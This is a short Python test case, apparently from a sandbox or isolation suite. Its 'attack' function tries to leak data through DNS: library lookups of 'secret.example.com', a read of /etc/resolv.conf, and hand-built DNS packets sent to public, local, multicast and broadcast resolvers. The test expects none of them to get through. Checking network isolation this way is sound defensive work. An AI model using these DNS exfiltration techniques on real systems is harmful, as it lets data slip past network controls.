# tries: carry answers out in names: DNS by the library, by packets to resolvers, by multicast
# must: reach nobody
# ask: ok
# value: []
# seconds: 30
import socket

def attack():
    reached = []
    for look in (lambda: socket.getaddrinfo("secret.example.com", 53), lambda: socket.gethostbyname("example.com"),
                 lambda: socket.gethostbyaddr("1.1.1.1"), lambda: open("/etc/resolv.conf").read()):
        try:
            reached.append(str(look()))
        except OSError:
            pass
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"
    for family, address in [(socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("127.0.0.53", 53)),
                            (socket.AF_INET, ("10.0.2.3", 53)), (socket.AF_INET, ("224.0.0.251", 5353)),
                            (socket.AF_INET, ("255.255.255.255", 53)), (socket.AF_INET6, ("2606:4700::1111", 53))]:
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(question, address)
            reached.append(str(address))
        except OSError:
            pass
    return reached
